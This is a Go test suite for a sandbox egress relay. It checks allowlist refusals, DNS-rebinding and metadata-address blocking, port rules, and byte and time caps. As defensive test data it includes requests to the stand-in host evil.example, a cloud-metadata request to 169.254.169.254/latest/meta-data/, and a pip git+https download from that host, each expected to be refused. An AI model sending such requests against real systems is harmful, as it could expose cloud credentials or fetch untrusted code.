package egress

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"cwm/internal/egress/indextest"
)

// ask sends one raw request to the relay from inside the sandbox (bash's
// /dev/tcp, no client library in between) and returns the status line.
func ask(t *testing.T, s sb, r *Relay, request string) string {
	t.Helper()
	port := strings.TrimPrefix(r.ProxyURL(), "http://127.0.0.1:")
	res := s.run(t, r, fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%s && printf '%%b' %q >&3 && head -n 1 <&3 | tr -d '\\r'", port, request))
	return strings.TrimSpace(string(res.Stdout))
}

// TestRelayRefuses checks each refusal from inside a sandbox, as the
// status line a client gets, and in the relay's Stats.
func TestRelayRefuses(t *testing.T) {
	s := sb{newSandbox(t)}
	p := Policy{
		Hosts: []Host{{Name: "localhost"}, {Name: "rebind.test"}, {Name: "ok.test"}, {Name: "*.suffix.test"}, {Name: "127.0.0.1", Ports: []int{9}, Literal: true}},
		// rebind.test resolves to a metadata address; ok.test and names
		// under suffix.test to loopback.
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			if host == "rebind.test" {
				return []netip.Addr{netip.MustParseAddr("169.254.169.254")}, nil
			}
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		},
	}
	r, err := Start(context.Background(), s.Sandbox, p)
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, request string
		want          Refusal
	}{
		{"not on the list", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", Refusal{"evil.example", 443, "not on the allowlist"}},
		{"suffix is not the domain", "CONNECT suffix.test:443 HTTP/1.1\r\n\r\n", Refusal{"suffix.test", 443, "not on the allowlist"}},
		{"forward not on the list", "GET http://evil.example/x HTTP/1.1\r\nHost: evil.example\r\n\r\n", Refusal{"evil.example", 80, "not on the allowlist"}},
		{"allowed name resolving to loopback", "CONNECT localhost:443 HTTP/1.1\r\n\r\n", Refusal{"localhost", 443, "resolves to 127.0.0.1, a loopback address"}},
		{"allowed suffix resolving to loopback", "CONNECT a.suffix.test:443 HTTP/1.1\r\n\r\n", Refusal{"a.suffix.test", 443, "resolves to 127.0.0.1, a loopback address"}},
		{"allowed name resolving to metadata", "CONNECT rebind.test:443 HTTP/1.1\r\n\r\n", Refusal{"rebind.test", 443, "resolves to 169.254.169.254, a link-local or cloud metadata address"}},
		{"port 22", "CONNECT ok.test:22 HTTP/1.1\r\n\r\n", Refusal{"ok.test", 22, "port 22 is not allowed for this host"}},
		{"port 8080", "CONNECT ok.test:8080 HTTP/1.1\r\n\r\n", Refusal{"ok.test", 8080, "port 8080 is not allowed for this host"}},
		{"port 80 of a host not marked apt", "GET http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n", Refusal{"ok.test", 80, "port 80 is not allowed for this host"}},
		{"plain-HTTP POST", "POST http://127.0.0.1:9/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\nx", Refusal{"127.0.0.1", 9, "only GET and HEAD are forwarded over plain HTTP, not POST"}},
		{"plain-HTTP GET with a body", "GET http://127.0.0.1:9/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\nx", Refusal{"127.0.0.1", 9, "a request body is not forwarded over plain HTTP"}},
		{"metadata address", "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", Refusal{"169.254.169.254", 80, "a link-local or cloud metadata address"}},
		{"metadata address, another cloud", "CONNECT 100.100.100.200:443 HTTP/1.1\r\n\r\n", Refusal{"100.100.100.200", 443, "a link-local or cloud metadata address"}},
		{"literal link-local", "CONNECT 169.254.1.1:443 HTTP/1.1\r\n\r\n", Refusal{"169.254.1.1", 443, "a link-local or cloud metadata address"}},
		{"literal IPv6 link-local", "CONNECT [fe80::1]:443 HTTP/1.1\r\n\r\n", Refusal{"fe80::1", 443, "a link-local or cloud metadata address"}},
		{"literal loopback not given", "CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n", Refusal{"127.0.0.1", 443, "a loopback address"}},
	}
	var want []Refusal
	for _, c := range cases {
		want = append(want, c.want)
		got := ask(t, s, r, c.request)
		wantLine := "HTTP/1.1 403 " + refusedMsg(c.want.Host, c.want.Port, c.want.Why)
		if got != wantLine {
			t.Errorf("%s: the sandbox got %q, want %q", c.name, got, wantLine)
		}
	}
	// Requests that are not a proxy's are bad requests, not refusals.
	for _, req := range []string{"GET /simple/ HTTP/1.1\r\nHost: x\r\n\r\n", "CONNECT noport HTTP/1.1\r\n\r\n", "GET https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"} {
		if got := ask(t, s, r, req); got != "HTTP/1.1 400 Bad Request" {
			t.Errorf("%q: the sandbox got %q, want 400 Bad Request", req, got)
		}
	}
	st := r.Close()
	if diff := cmp.Diff(want, st.Refusals); diff != "" {
		t.Errorf("Stats.Refusals (-want +got):\n%s", diff)
	}
	if st.Conns != 0 || st.Bytes != 0 {
		t.Errorf("Stats = %d connections, %d bytes; want nothing relayed", st.Conns, st.Bytes)
	}
}

// TestByteCap cuts a download that passes the step's byte cap: pip fails
// in the sandbox, and the refusal names the cap.
func TestByteCap(t *testing.T) {
	ix := indextest.Start(t, indextest.Wheel{Name: "big", Version: "1.0", Pad: 4 << 20})
	s := sb{newSandbox(t)}
	p := allowIndex(t, ix.Addr)
	p.MaxBytes = 1 << 20
	r, err := Start(context.Background(), s.Sandbox, p)
	if err != nil {
		t.Fatal(err)
	}
	res := s.run(t, r, "python3 -m pip download --no-cache-dir --retries 0 -d /tmp/d --index-url "+ix.URL+" big")
	st := r.Close()
	if res.ExitCode == 0 {
		t.Errorf("pip download of a 4 MiB wheel under a 1 MiB cap succeeded:\n%s", output(res))
	}
	wantWhy := "the step's byte cap of 1048576 bytes was reached"
	// The download is cut; a retry after it would be refused the same way.
	if len(st.Refusals) == 0 {
		t.Errorf("Stats.Refusals is empty, want %q", wantWhy)
	}
	for _, ref := range st.Refusals {
		if ref.Why != wantWhy || ref.Host != "127.0.0.1" {
			t.Errorf("Stats.Refusals = %v, want each: %q", st.Refusals, wantWhy)
			break
		}
	}
	if st.Bytes < 1<<20 || st.Bytes > 2<<20 {
		t.Errorf("Stats.Bytes = %d, want the cap and at most a buffer more", st.Bytes)
	}
}

// TestTimeCap: a request open when the step's time cap passes is cut, and
// every later one is refused naming the cap. The cap's timer is fired
// once the server holds the request (a cap that passed before the request
// came would refuse it instead); TestTimeCapArmed shows MaxTime arms it.
func TestTimeCap(t *testing.T) {
	release := make(chan struct{})
	t.Cleanup(func() { close(release) })
	holding := make(chan struct{}, 1)
	addr := serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
		http.NewResponseController(w).Flush()
		holding <- struct{}{}
		<-release
	}))
	s := sb{newSandbox(t)}
	p := allowIndex(t, addr)
	p.MaxTime = time.Hour
	r, err := Start(context.Background(), s.Sandbox, p)
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		<-holding
		r.timer.Reset(0)
	}()
	port := strings.TrimPrefix(r.ProxyURL(), "http://127.0.0.1:")
	// The read ends only when the relay cuts the connection.
	res := s.run(t, r, fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%s && printf 'GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' >&3 && cat <&3 >/dev/null; echo cut", port, addr, addr))
	if strings.TrimSpace(string(res.Stdout)) != "cut" {
		t.Fatalf("the held request: %s", output(res))
	}
	wantWhy := "the step's time cap of 1h0m0s was reached"
	got := ask(t, s, r, "GET http://"+addr+"/ HTTP/1.1\r\nHost: "+addr+"\r\n\r\n")
	if want := "HTTP/1.1 403 " + refusedMsg("127.0.0.1", atoi(strings.Split(addr, ":")[1]), wantWhy); got != want {
		t.Errorf("a request after the time cap got %q, want %q", got, want)
	}
	st := r.Close()
	if len(st.Refusals) != 2 || st.Refusals[0].Why != wantWhy || st.Refusals[1].Why != wantWhy || st.Conns != 1 {
		t.Errorf("Stats = %+v, want the cut request and the later one refused for the time cap", st)
	}
}

// TestTimeCapArmed: MaxTime itself stops a relay. Requests to an allowed
// server are answered until the cap passes, and refused from then on.
func TestTimeCapArmed(t *testing.T) {
	addr := serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	s := sb{newSandbox(t)}
	p := allowIndex(t, addr)
	p.MaxTime = 500 * time.Millisecond
	r, err := Start(context.Background(), s.Sandbox, p)
	if err != nil {
		t.Fatal(err)
	}
	want := "HTTP/1.1 403 " + refusedMsg("127.0.0.1", atoi(strings.Split(addr, ":")[1]), "the step's time cap of 500ms was reached")
	deadline := time.Now().Add(2 * time.Minute)
	for {
		got := ask(t, s, r, "GET http://"+addr+"/ HTTP/1.1\r\nHost: "+addr+"\r\n\r\n")
		if got == want {
			break
		}
		// "": the cap passed while this request was in flight, and the
		// relay cut its connection (TestTimeCap shows that case alone).
		if (got != "HTTP/1.1 200 OK" && got != "") || time.Now().After(deadline) {
			t.Fatalf("a request to an allowed server got %q, want 200 until the cap passes (or a cut connection as it passes), then %q", got, want)
		}
	}
	st := r.Close()
	if len(st.Refusals) == 0 {
		t.Errorf("Stats.Refusals is empty, want the request after the cap")
	}
	for _, ref := range st.Refusals {
		if ref.Why != "the step's time cap of 500ms was reached" {
			t.Errorf("Stats.Refusals = %v, want every refusal for the time cap", st.Refusals)
		}
	}
}

// TestVCSRequirementRefused: pip's git+https requirement (git through the
// relay's proxy environment) for a host off the list fails in the sandbox
// with the refusal, and the relay names it.
func TestVCSRequirementRefused(t *testing.T) {
	s := sb{newSandbox(t)}
	if res := s.run(t, nil, "command -v git"); res.ExitCode != 0 {
		t.Skip("no git on the host's /usr")
	}
	r, err := Start(context.Background(), s.Sandbox, Policy{})
	if err != nil {
		t.Fatal(err)
	}
	res := s.run(t, r, "python3 -m pip download --no-cache-dir --no-deps --no-index -d /tmp/d 'pkg @ git+https://evil.example/pkg.git'")
	st := r.Close()
	if res.ExitCode == 0 || !strings.Contains(string(res.Stderr), "403") {
		t.Errorf("pip with a git+https requirement off the list: exit %d, want a failure showing the 403:\n%s", res.ExitCode, output(res))
	}
	if want := (Refusal{"evil.example", 443, "not on the allowlist"}); len(st.Refusals) == 0 || st.Refusals[0] != want {
		t.Errorf("Stats.Refusals = %v, want %v", st.Refusals, want)
	}
}
